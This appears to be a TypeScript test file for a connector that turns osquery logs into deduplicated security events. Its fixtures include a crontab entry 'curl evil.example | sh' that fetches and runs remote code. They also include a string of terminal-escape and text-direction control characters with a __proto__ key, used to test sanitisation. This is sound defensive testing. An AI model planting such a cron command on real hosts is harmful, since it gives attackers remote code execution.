/** Lines in the shapes of contracts/osquery-remote.md 1.5, with values of our own. */
import { describe, expect, it } from 'vitest';
import { type LogContext, type ReadLog, readLog, tableFinder } from '../../../src/connectors/direct/logs.ts';
import type { Node } from '../../../src/connectors/direct/nodes.ts';
import { DEFAULT_INTERVALS, defaultSchedule } from '../../../src/connectors/direct/schedule.ts';
import { SnapshotMemory } from '../../../src/connectors/direct/snapshots.ts';
import { differenceKey } from '../../../src/core/dedupe.ts';
import { difference } from './support.ts';

const NOW = Date.UTC(2026, 10, 21, 4, 0, 0);
const SAID_AT = 1_795_230_000;

const node: Node = {
  id: 'abcdef012345',
  keyHash: '0'.repeat(64),
  duplicate: false,
  approved: false,
  blocked: false,
  tags: [],
  enrolledAt: 0,
  lastSeen: 0,
  ip: '192.0.2.1',
  hostname: 'web-1',
  displayName: 'web-1',
  uuid: 'web-1-uuid',
  platform: 'debian',
  osVersion: '',
  osqueryVersion: '',
  simulated: false,
};

const context = (over: Partial<LogContext> = {}): LogContext => ({
  source: 'jump',
  node,
  now: NOW,
  tablesOfQuery: tableFinder(defaultSchedule(DEFAULT_INTERVALS)),
  snapshots: new SnapshotMemory(),
  ...over,
});

/** All steps at once. */
function atOnce<T>(steps: Iterator<void, T>): T {
  for (let step = steps.next(); ; step = steps.next()) if (step.done) return step.value;
}

const results = (data: readonly unknown[], over: Partial<LogContext> = {}): ReadLog =>
  atOnce(readLog({ log_type: 'result', data: [...data] }, context(over)));
const statuses = (data: readonly unknown[]): ReadLog => atOnce(readLog({ log_type: 'status', data: [...data] }, context()));

const snapshot = (rows: unknown, over: Readonly<Record<string, unknown>> = {}) => ({
  snapshot: rows,
  action: 'snapshot',
  name: 'processes',
  hostIdentifier: 'web-1',
  unixTime: SAID_AT,
  epoch: 0,
  counter: 0,
  numerics: false,
  ...over,
});

const statusLine = (over: Readonly<Record<string, unknown>> = {}) => ({
  hostIdentifier: 'web-1',
  calendarTime: 'Sat Nov 21 03:00:00 2026 UTC',
  unixTime: SAID_AT,
  severity: 1,
  filename: 'tls.cpp',
  line: 253,
  message: 'TLS/HTTPS POST request failed',
  version: '5.19.0',
  ...over,
});

describe('a differential result', () => {
  it('becomes an event of the enrolled host, with the time and identity that the line gives it', () => {
    const { events } = results([difference('crontab', { command: 'curl evil.example | sh', path: '/etc/crontab' })]);
    const row = { command: 'curl evil.example | sh', path: '/etc/crontab' };
    expect(events).toEqual([
      {
        dedupeKey: differenceKey({ source: 'jump', host: node.id, query: 'crontab', action: 'added', unixTime: SAID_AT, counter: 1, row }),
        time: SAID_AT * 1_000,
        source: 'jump',
        connector: 'direct',
        kind: 'query_row',
        eventType: 'osquery_query_row',
        title: 'crontab added: curl evil.example | sh in /etc/crontab',
        hostname: 'web-1',
        hostId: node.id,
        hostUuid: 'web-1-uuid',
        tables: ['crontab'],
        queryName: 'crontab',
        action: 'added',
        row,
        raw: difference('crontab', row),
      },
    ]);
  });

  it('in batch form becomes one event for each row, removed ones first', () => {
    const batch = {
      diffResults: { removed: [{ name: 'old' }], added: [{ name: 'a' }, { name: 'b' }] },
      name: 'kernel_modules',
      unixTime: SAID_AT,
      counter: 4,
    };
    const { events } = results([batch]);
    expect(events.map(({ action, row }) => [action, row])).toEqual([
      ['removed', { name: 'old' }],
      ['added', { name: 'a' }],
      ['added', { name: 'b' }],
    ]);
    expect(events[1]?.raw).toEqual({
      name: 'kernel_modules',
      action: 'added',
      unixTime: SAID_AT,
      epoch: null,
      counter: 4,
      columns: { name: 'a' },
    });
  });

  it('in batch form without changes on one side is read too', () => {
    const { events, skipped } = results([
      { diffResults: { removed: '', added: [{ name: 'a' }] }, name: 'kernel_modules', unixTime: SAID_AT },
    ]);
    expect(events).toHaveLength(1);
    expect(skipped).toBe(0);
  });

  it('keeps its identity when it is sent again, and when columns or number types come differently', () => {
    const keys = [
      difference('listening_ports', { port: '22', address: '::' }),
      difference('listening_ports', { address: '::', port: 22 }, { numerics: true, unixTime: String(SAID_AT), counter: '1' }),
    ].map(line => results([line]).events[0]?.dedupeKey);
    expect(new Set(keys).size).toBe(1);
    expect(results([difference('crontab', { a: '1' }), difference('crontab', { a: '1' })]).events).toHaveLength(1);
  });

  it('is another event at another time, of another count, or the other way round', () => {
    const lines = [{}, { unixTime: SAID_AT + 1 }, { counter: 2 }, { action: 'removed' }].map(over =>
      difference('crontab', { a: '1' }, over),
    );
    expect(results(lines).events).toHaveLength(4);
  });

  it('has numbers as text', () => {
    const { events } = results([difference('listening_ports', { port: 4444, pid: null, ratio: 0.5, ok: true }, { numerics: true })]);
    expect(events[0]?.row).toEqual({ port: '4444', pid: null, ratio: '0.5', ok: 'true' });
  });

  it('keeps decorations as evidence, wherever they stand', () => {
    const lines = [
      difference('crontab', { a: '1' }, { decorations: { team: 'blue' } }),
      difference('crontab', { a: '2' }, { team: 'blue' }),
    ];
    expect(results(lines).events.map(({ raw }) => raw)).toMatchObject([{ decorations: { team: 'blue' } }, { team: 'blue' }]);
  });

  it.each([[undefined], [null], ['soon'], [-5], [1e300]])('that says %s for a time has the time of its arrival', unixTime => {
    const { events, skipped } = results([difference('crontab', { a: '1' }, { unixTime })]);
    expect(events).toMatchObject([{ time: NOW }]);
    expect(skipped).toBe(0);
  });

  it('belongs to the node that sent it, whatever host it names', () => {
    expect(results([difference('crontab', {}, { hostIdentifier: 'someone-else' })]).events).toMatchObject([
      { hostname: 'web-1', hostId: node.id },
    ]);
  });
});

describe('the tables of a result', () => {
  it.each([
    ['listening_ports', ['listening_ports', 'processes']],
    ['pack/ir/crontab', ['crontab']],
    ['pack_ir_crontab', ['crontab']],
    ['startup_items', ['startup_items']],
    ['my own query', []],
  ])('of %s are %j', (name, tables) => {
    expect(results([difference(name, { a: '1' })]).events).toMatchObject([{ tables, queryName: name }]);
  });
});

describe('a snapshot', () => {
  const memory = () => {
    const snapshots = new SnapshotMemory();
    return (data: readonly unknown[], keep = true) => {
      const read = results(data, { snapshots });
      if (keep) for (const each of read.snapshots) snapshots.remember(each);
      return read.events.map(({ row }) => row.pid);
    };
  };
  const line = (pids: readonly number[], unixTime = SAID_AT) =>
    snapshot(
      pids.map(pid => ({ pid: String(pid) })),
      { unixTime },
    );
  const eventForm = (pids: readonly number[], unixTime = SAID_AT) =>
    pids.map(pid => difference('processes', { pid: String(pid) }, { action: 'snapshot', unixTime, counter: 0 }));

  it('brings every row the first time, and each of equal rows once', () => {
    expect(memory()([line([1, 2, 2, 1])])).toEqual(['1', '2']);
  });

  it('brings only what was not in the previous answer', () => {
    const read = memory();
    read([line([1, 2])]);
    expect(read([line([1, 2], SAID_AT + 60)])).toEqual([]);
    expect(read([line([1, 3], SAID_AT + 120)])).toEqual(['3']);
    expect(read([line([], SAID_AT + 180)])).toEqual([]);
    expect(read([line([1], SAID_AT + 240)])).toEqual(['1']);
  });

  it('counts as previous only once its events are safe', () => {
    const read = memory();
    expect(read([line([1, 2])], false)).toEqual(['1', '2']);
    expect(read([line([1, 2])])).toEqual(['1', '2']);
    expect(read([line([1, 2])])).toEqual([]);
  });

  it('row by row is the same, even when it comes in several deliveries', () => {
    const read = memory();
    expect(read(eventForm([1, 2]))).toEqual(['1', '2']);
    expect(read(eventForm([3]))).toEqual(['3']);
    expect(read(eventForm([1, 2], SAID_AT + 60))).toEqual([]);
    expect(read(eventForm([3, 4], SAID_AT + 60))).toEqual(['4']);
    expect(read(eventForm([4], SAID_AT + 120))).toEqual([]);
  });

  it('that is older than what is known brings nothing twice and is not taken for the last answer', () => {
    const read = memory();
    read([line([1, 2])]);
    read([line([2, 3], SAID_AT + 60)]);
    expect(read([line([1, 2])])).toEqual([]);
    expect(read([line([2, 3], SAID_AT + 120)])).toEqual([]);
  });

  it('is remembered for each query and host by itself', () => {
    const snapshots = new SnapshotMemory();
    for (const each of results([line([1])], { snapshots }).snapshots) snapshots.remember(each);
    expect(results([snapshot([{ pid: '1' }], { name: 'users' })], { snapshots }).events).toHaveLength(1);
    expect(results([line([1])], { snapshots, node: { ...node, id: 'other' } }).events).toHaveLength(1);
  });

  it('row has an identity that does not depend on when it was seen', () => {
    const [first, second] = [results([line([1])]), results([line([1], SAID_AT + 60)])];
    expect(second.events[0]?.dedupeKey).toBe(first.events[0]?.dedupeKey);
    expect(second.events[0]?.time).toBe((SAID_AT + 60) * 1_000);
  });

  it('row carries itself as evidence, not the whole snapshot', () => {
    expect(results([line([1, 2])]).events[0]?.raw).toEqual({ ...snapshot([]), snapshot: undefined, columns: { pid: '1' } });
  });
});

describe('a status line of the agent', () => {
  it.each([
    [0, 'info', 'info'],
    ['0', 'info', 'info'],
    [1, 'warning', 'low'],
    [2, 'error', 'medium'],
    ['2', 'error', 'medium'],
    [3, 'error', 'medium'],
    ['odd', 'message', 'info'],
  ])('of severity %j is a %s, severity %s', (severity, word, judged) => {
    const { events } = statuses([statusLine({ severity })]);
    expect(events).toMatchObject([
      {
        kind: 'status',
        eventType: 'agent_status',
        title: `osquery ${word}: TLS/HTTPS POST request failed`,
        judged: { severity: judged, reason: expect.stringContaining(judged) },
        tables: [],
        queryName: null,
        action: null,
        time: SAID_AT * 1_000,
        row: { severity: word, filename: 'tls.cpp', line: '253', message: 'TLS/HTTPS POST request failed', version: '5.19.0' },
      },
    ]);
  });

  it('is one event when it is sent again, another when it is said again later', () => {
    expect(statuses([statusLine(), statusLine(), statusLine({ unixTime: SAID_AT + 4 })]).events).toHaveLength(2);
  });
});

describe('lines that are none', () => {
  it('are counted, with a sample, and do not lose the others', () => {
    const good = difference('crontab', { a: '1' });
    const bad = [
      'text',
      null,
      7,
      [],
      {},
      { name: 'x' },
      { name: 'x', columns: {}, action: 'exploded' },
      { name: '', columns: {}, action: 'added' },
    ];
    const { events, skipped, skippedSample } = results([...bad, good, { ...good, columns: { a: '2' } }]);
    expect(events).toHaveLength(2);
    expect(skipped).toBe(bad.length);
    expect(skippedSample).toBe('"text"');
    expect(statuses([{ message: 7 }, statusLine()])).toMatchObject({ skipped: 1, events: [{ kind: 'status' }] });
  });

  it('inside a snapshot are counted too', () => {
    expect(results([snapshot([{ pid: '1' }, 'x', null])])).toMatchObject({ skipped: 2, events: [{ row: { pid: '1' } }] });
  });
});

describe('hostile text', () => {
  it('is printable everywhere but in the evidence', () => {
    const evil = 'x\u001b]0;owned\u0007\u202e\u0000';
    const { events } = results([difference(evil, { [evil]: evil, __proto__: evil })]);
    const status = statuses([statusLine({ message: evil, filename: evil, version: evil })]);
    for (const { raw, ...shown } of [...events, ...status.events]) {
      expect(JSON.stringify(shown)).not.toMatch(/\\u001b|\\u0007|\\u0000|\u202e/);
      expect(JSON.stringify(raw)).toContain('\\u001b');
    }
  });
});
